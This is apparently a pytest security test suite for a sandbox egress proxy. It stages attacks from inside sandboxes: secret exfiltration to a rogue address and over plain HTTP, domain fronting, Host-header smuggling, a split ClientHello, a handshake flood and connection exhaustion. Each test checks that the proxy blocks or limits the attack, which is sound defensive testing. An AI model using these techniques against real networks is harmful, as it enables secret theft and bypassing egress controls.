"""The egress proxy attacked from inside sandboxes (issue 25, items 1, 3, 4, 5, 6, 14): a real server
whose uplink leads into the tests' internet (tests/egress_internet.py), real sandboxes sending what an
attacker would, and checks on what reached the internet (every request head that got out is in
INTERNET_LOG), what the sandbox got back, what the record says, and that a neighbour kept its state
and the server still serves.
"""

from __future__ import annotations

import base64
import os
import statistics
import threading
import time
from collections.abc import Iterator

import pytest

from agentcell import Sandbox
from agentcell.backends.linux import child_link
from agentcell.network.proxy import MAX_PER_SANDBOX
from agentcell.network.proxy_process import MODULE as PROXY_MODULE
from tests.conftest import ServerProcess
from tests.egress_internet import DENIED_IP, INTERNET_LOG, OTHER, ROGUE, WEB, ask, internet_server, probed
from tests.sandbox_code import FLOOD, HELLO

ATTACKS = HELLO + r'''
import socket, ssl, time, threading, urllib.request, os
def raw(ip, port, data, timeout=3.0, read=1 << 16):
    """Bytes sent on one connection; what came back (b"" when it closed unanswered), or an error's name."""
    try:
        s = socket.create_connection((ip, port), timeout=timeout)
    except OSError as e:
        return type(e).__name__
    out = b""
    try:
        s.sendall(data)
        while len(out) < read:
            chunk = s.recv(read)
            if not chunk:
                break
            out += chunk
    except socket.timeout:
        pass
    except OSError as e:
        return out or type(e).__name__
    finally:
        s.close()
    return out
def status(got):
    if isinstance(got, bytes):
        return got.split(b"\r\n", 1)[0].decode(errors="replace") if got else "closed"
    return got
def statuses(got):
    return [line.decode() for line in got.split(b"\r\n") if line.startswith(b"HTTP/1.")] if isinstance(got, bytes) else got
def tls_raw(ip, sni, data, timeout=4.0):
    """HTTPS to ip naming sni; the request bytes as given; what came back, or the error."""
    ctx = ssl.create_default_context()
    try:
        s = ctx.wrap_socket(socket.create_connection((ip, 443), timeout=timeout), server_hostname=sni)
    except Exception as e:
        return type(e).__name__ + ": " + str(e)[:100]
    out = b""
    try:
        s.sendall(data)
        while True:
            chunk = s.recv(1 << 16)
            if not chunk:
                break
            out += chunk
    except (socket.timeout, ssl.SSLError, OSError):
        pass
    finally:
        s.close()
    return out
def fetch(url, headers=None, timeout=5.0):
    req = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            return r.status, dict(r.headers), r.read()
    except Exception as e:
        return type(e).__name__, {}, str(e).encode()
def alive(s):
    """Whether a connection is still open (no reset, no end) without reading anything from it."""
    s.setblocking(False)
    try:
        return s.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False
def my_address():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("203.0.113.10", 9))
    return s.getsockname()[0]
'''


@pytest.fixture(scope="module")
def attack_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    with internet_server(tmp_path_factory, "--egress-plain-http-host", "plain.test") as server:
        yield server


@pytest.fixture(scope="module")
def bystander(attack_server: ServerProcess) -> Iterator[Sandbox]:
    """Another tenant's sandbox, created before the attacks, with state they must not disturb."""
    sbx = Sandbox.create(api_url=attack_server.url, timeout=1200, network={"allow_out": ["allowed.test"]})
    sbx.run_code("canary = 'alive'")
    probed(sbx)
    yield sbx
    sbx.kill()


@pytest.fixture
def make(attack_server: ServerProcess) -> Iterator:
    made: list[Sandbox] = []

    def create(**kwargs: object) -> Sandbox:
        sbx = Sandbox.create(api_url=attack_server.url, timeout=300, **kwargs)  # type: ignore[arg-type]
        made.append(sbx)
        ex = sbx.run_code(ATTACKS)
        assert ex.error is None, ex.error
        return sbx

    yield create
    for sbx in made:
        sbx.kill()


def unharmed(bystander: Sandbox) -> None:
    """The neighbour kept its state, and its own way out through the proxy still works."""
    assert ask(bystander, "canary") == "alive"
    assert ask(bystander, "__import__('urllib.request').request.urlopen('http://allowed.test/', timeout=5).status") \
        == "200"


def sent_since(mark: int) -> bytes:
    return INTERNET_LOG.read_bytes()[mark:] if INTERNET_LOG.exists() else b""


def log_mark() -> int:
    return INTERNET_LOG.stat().st_size if INTERNET_LOG.exists() else 0


def placeholder_of(sbx: Sandbox, name: str) -> str:
    return ask(sbx, f"os.environ[{name!r}]")


# --- item 1: a secret's value goes only where it may --------------------------------------------------


def test_a_secret_goes_only_over_verified_tls_or_to_an_answered_address(make, bystander) -> None:  # type: ignore[no-untyped-def]
    value, rule_value, plain_value = ("sk-" + os.urandom(12).hex() for _ in range(3))
    sbx = make(secrets={"API_KEY": {"value": value, "hosts": ["secret.test"]},
                        "PLAIN_KEY": {"value": plain_value, "hosts": ["plain.test"]}},
               network={"rules": {"secret.test": [{"transform": {"headers": {"X-Rule": rule_value}}}]}})
    key = placeholder_of(sbx, "API_KEY")
    mark = log_mark()
    request = f"GET /echo HTTP/1.1\r\nHost: secret.test\r\nAuthorization: Bearer {key}\r\nConnection: close\r\n\r\n"
    # the secret's host named over plain HTTP, at an address the sandbox controls, at its real address, on
    # port 443 without TLS: the placeholder is never replaced there, and nothing is sent
    for ip, port in ((OTHER, 80), (ROGUE, 80), (WEB, 80), (OTHER, 443)):
        got = ask(sbx, f"status(raw({ip!r}, {port}, {request!r}.encode()))")
        assert got == "HTTP/1.1 403 Forbidden", (ip, port, got)
    # the rule's header likewise (the request names the rule's host and carries no placeholder)
    bare = "GET /echo HTTP/1.1\r\nHost: secret.test\r\nConnection: close\r\n\r\n"
    assert ask(sbx, f"status(raw({OTHER!r}, 80, {bare!r}.encode()))") == "HTTP/1.1 403 Forbidden"
    # TLS to an address whose certificate is not the secret's host's: the upstream does not verify
    got = ask(sbx, f"status(tls_raw({ROGUE!r}, 'secret.test', {request!r}.encode()))")
    assert got == "HTTP/1.1 502 Bad Gateway", got
    # the proxy's own port, on any address: no way in (item 3), so nothing to substitute either
    for ip in ("10.77.255.254", WEB, OTHER):
        assert not ask(sbx, f"status(raw({ip!r}, 15001, {request!r}.encode(), timeout=1.5))").startswith("HTTP/")
    out = sent_since(mark)
    assert value.encode() not in out and rule_value.encode() not in out, out[-2000:]
    # over TLS to the host itself, verified: the value and the rule's header go in
    got = ask(sbx, f"tls_raw({WEB!r}, 'secret.test', {request!r}.encode())")
    assert got.startswith("b'HTTP/1.1 200") and value not in got, got
    out = sent_since(mark)
    assert f"Bearer {value}".encode() in out and f"X-Rule: {rule_value}".lower().encode() in out.lower()
    # a host the operator marked plain-HTTP: to an address its name resolved to, yes; elsewhere, no
    plain = placeholder_of(sbx, "PLAIN_KEY")
    assert ask(sbx, "sorted({a[4][0] for a in socket.getaddrinfo('plain.test', 80)})") == f"['{WEB}']"
    plain_request = f"GET /echo HTTP/1.1\r\nHost: plain.test\r\nAuthorization: {plain}\r\nConnection: close\r\n\r\n"
    mark = log_mark()
    assert ask(sbx, f"status(raw({OTHER!r}, 80, {plain_request!r}.encode()))") == "HTTP/1.1 403 Forbidden"
    assert plain_value.encode() not in sent_since(mark)
    assert ask(sbx, f"status(raw({WEB!r}, 80, {plain_request!r}.encode()))") == "HTTP/1.1 200 OK"
    assert plain_value.encode() in sent_since(mark)
    refused = [e for e in sbx.events(kinds="secret.")]
    assert any(e["kind"] == "secret.refused" and e.get("rule") == "secret-plaintext" and e.get("secret") == "API_KEY"
               for e in refused), refused
    assert any(e.get("secret") == "rules:secret.test" for e in refused), refused
    unharmed(bystander)


# --- item 3: only intercepted connections reach the proxy; its budget is per sandbox first ---------


def test_only_intercepted_connections_reach_the_proxy(make, bystander) -> None:  # type: ignore[no-untyped-def]
    request = b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
    for kwargs in ({"allow_internet_access": False}, {}, {"network": {"deny_out": ["denied.test"]}}):
        sbx = make(**kwargs)
        router_side = ask(sbx, "my_address().rsplit('.', 1)[0] + '.' + str(int(my_address().rsplit('.', 1)[1]) - 1)")
        for ip in ("10.77.255.254", router_side, WEB, "198.51.100.99"):
            got = ask(sbx, f"status(raw({ip!r}, 15001, {request!r}, timeout=1.5))")
            assert not got.startswith("HTTP/"), (kwargs, ip, got)  # (the proxy would have answered 403)
    unharmed(bystander)


def test_one_sandbox_cannot_hold_the_proxy(make, bystander) -> None:  # type: ignore[no-untyped-def]
    sbx = make(network={"deny_out": ["denied.test"]})  # name rules: its ports 80/443 go to the proxy
    # 200 connections that never name a host: the proxy keeps its share of them, resets the rest
    held = ask(sbx, "(lambda socks: (time.sleep(1.5), sum(1 for s in socks if alive(s)))[1])("
                    "[socket.create_connection(('203.0.113.10', 80), timeout=3) for _ in range(200)])")
    assert int(held) <= MAX_PER_SANDBOX, held
    unharmed(bystander)  # and another sandbox's connections still go through


# --- item 4: TLS work for one sandbox is not the API's ---------------------------------------------


def _cpu_s(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")




def test_a_handshake_flood_stays_off_the_servers_loop(make, bystander, attack_server: ServerProcess) -> None:  # type: ignore[no-untyped-def]
    # a secret: every TLS connection of this sandbox is terminated (by the server's loop, before)
    attacker = make(secrets={"KEY": {"value": "sk-" + "0" * 24, "hosts": ["secret.test"]}})
    assert attacker.run_code(FLOOD).error is None
    proxies = child_link.processes_of(attack_server.pid, PROXY_MODULE)
    assert len(proxies) == 1, proxies
    with open(f"/proc/{proxies[0]}/stat") as f:
        assert int(f.read().rpartition(")")[2].split()[16]) >= 10  # niceness: behind the server
    quiet = [_timed(bystander) for _ in range(15)]
    server_before, proxy_before, wall = _cpu_s(attack_server.pid), _cpu_s(proxies[0]), time.monotonic()
    done = threading.Event()

    tried: list[int] = []

    def attack() -> None:
        tried.append(int(ask(attacker, "flood(8)")))
        done.set()

    t = threading.Thread(target=attack)
    t.start()
    time.sleep(1.0)
    loud = []
    while not done.is_set() and len(loud) < 40:
        loud.append(_timed(bystander))
    t.join()
    wall = time.monotonic() - wall
    server_cpu, proxy_cpu = _cpu_s(attack_server.pid) - server_before, _cpu_s(proxies[0]) - proxy_before
    # the flood was real (hundreds of handshakes asked for a second), the proxy's budget took it, the
    # server's loop hardly noticed
    assert tried and tried[0] > 40 * 8, tried
    assert server_cpu < 0.35 * wall, (server_cpu, proxy_cpu, wall)
    p50_quiet, p50_loud = statistics.median(quiet), statistics.median(loud)
    assert p50_loud <= max(3 * p50_quiet, p50_quiet + 0.02), (p50_quiet, p50_loud)
    budget = [e for e in attacker.events(kinds="net.deny") if e.get("rule") == "proxy-budget"]
    assert budget, "the handshake budget never stopped the flood"
    unharmed(bystander)


def _timed(sbx: Sandbox) -> float:
    t = time.perf_counter()
    assert sbx.commands.run("true").exit_code == 0
    return time.perf_counter() - t


# --- item 5: every request on an intercepted connection is checked ---------------------------------


def test_every_request_on_a_connection_is_checked(make, bystander) -> None:  # type: ignore[no-untyped-def]
    sbx = make(network={"allow_out": ["allowed.test"]})
    assert ask(sbx, "sorted({a[4][0] for a in socket.getaddrinfo('allowed.test', 80)})") == f"['{WEB}']"
    mark = log_mark()
    first = "GET /keepalive HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
    for second in ("GET /keepalive HTTP/1.1\r\nHost: denied.test\r\n\r\n",  # keep-alive, pipelined
                   "GET http://denied.test/keepalive HTTP/1.1\r\nHost: allowed.test\r\n\r\n",  # absolute form
                   "GET /keepalive HTTP/1.1\r\nHost: denied.test:80\r\n\r\n"):
        got = ask(sbx, f"statuses(raw({WEB!r}, 80, ({first!r} + {second!r}).encode()))")
        assert got == "['HTTP/1.1 200 OK', 'HTTP/1.1 403 Forbidden']", (second, got)
        # one after the other on a kept-alive connection, not pipelined
        sequential = (f"(lambda s: (s.sendall({first!r}.encode()), time.sleep(0.5), s.recv(65536), "
                      f"s.sendall({second!r}.encode()), time.sleep(0.5), s.recv(65536))[-1])"
                      f"(socket.create_connection(({WEB!r}, 80), timeout=3))")
        assert ask(sbx, f"status({sequential})") in ("HTTP/1.1 403 Forbidden", "closed"), second
        # inside TLS too: the SNI is checked, then each request's Host (domain fronting)
        got = ask(sbx, f"statuses(tls_raw({WEB!r}, 'allowed.test', ({first!r} + {second!r}).encode()))")
        assert got == "['HTTP/1.1 200 OK', 'HTTP/1.1 421 Misdirected Request']", (second, got)
    fronted = "GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n"
    assert ask(sbx, f"statuses(tls_raw({WEB!r}, 'allowed.test', {fronted!r}.encode()))") \
        == "['HTTP/1.1 421 Misdirected Request']"
    out = sent_since(mark)
    assert out.count(b"Host: allowed.test") >= 6 and b"denied.test" not in out, out[-1500:]
    denied = [e for e in sbx.events(kinds="net.deny") if e.get("rule") == "host-mismatch"]
    assert len(denied) >= 7, denied
    unharmed(bystander)


# --- item 6: what the claim parser cannot read is refused where a name rule exists -------------------


def test_what_the_proxy_cannot_read_it_does_not_pass(make, bystander) -> None:  # type: ignore[no-untyped-def]
    sbx = make(network={"deny_out": ["denied.test"]})
    mark = log_mark()
    # a ClientHello split over two records names the denied host: read whole, refused
    assert ask(sbx, f"status(raw({DENIED_IP!r}, 443, split_hello('denied.test')))") in ("closed", "ConnectionResetError")
    assert ask(sbx, f"raw({DENIED_IP!r}, 443, split_hello('allowed.test'))[:1] == b'\\x16'") == "True"  # (read, allowed)
    for request in (b"GET / HTTP/1.1\r\nHost: anything.test\r\nHost: denied.test\r\n\r\n",  # two Hosts
                    b"PROPFIND / HTTP/1.1\r\nHost: denied.test\r\n\r\n",  # a method of no fixed list
                    b"get / HTTP/1.1\r\nHost: denied.test\r\n\r\n",  # lower case
                    b"GET / HTTP/1.1\r\nHost: denied.test\r\nHost: denied.test\r\n\r\n",
                    b"NOTHTTP\x00 / Host: denied.test\r\n\r\n",  # not HTTP at all
                    b"GET /\tHTTP/1.1\r\nHost: denied.test\r\n\r\n"):
        got = ask(sbx, f"status(raw({DENIED_IP!r}, 80, {request!r}))")
        assert got in ("HTTP/1.1 403 Forbidden", "closed", "ConnectionResetError"), (request, got)
    assert b"denied.test" not in sent_since(mark), sent_since(mark)[-1500:]
    assert ask(sbx, f"status(raw({DENIED_IP!r}, 80, b'PATCH / HTTP/1.1\\r\\nHost: fine.test\\r\\n\\r\\n'))") \
        == "HTTP/1.1 200 OK"  # any method, read as HTTP, goes where it may
    unharmed(bystander)


# --- item 14: redacted answers are whole, whatever the framing and encoding -----------------------


def test_redacted_answers_stay_well_formed(make, bystander) -> None:  # type: ignore[no-untyped-def]
    value = "sk-" + os.urandom(16).hex()
    sbx = make(secrets={"K": {"value": value, "hosts": ["secret.test"]}})
    key = placeholder_of(sbx, "K")
    for path in ("/plain", "/chunked", "/gzip", "/b64"):
        got = ask(sbx, f"fetch('https://secret.test{path}', {{'Authorization': 'Bearer ' + os.environ['K']}})")
        status, headers, body = eval(got)  # (the sandbox printed the tuple's repr)
        assert status == 200, (path, got[:300])
        if path == "/b64":  # the value's Base64 became the placeholder's: still Base64, whole
            body = base64.b64decode(body, validate=True)
            assert key[6:40].encode() in body, body
        else:
            assert f"Bearer {key}".encode() in body, (path, body[-300:])
        assert value.encode() not in body and body.endswith(b"\r\n\r\n"), (path, body[-200:])  # whole
        assert value not in str(headers) and headers.get("X-Echo-Auth") == f"Bearer {key}", (path, headers)
        assert "gzip" not in headers.get("Content-Encoding", ""), headers
    unharmed(bystander)
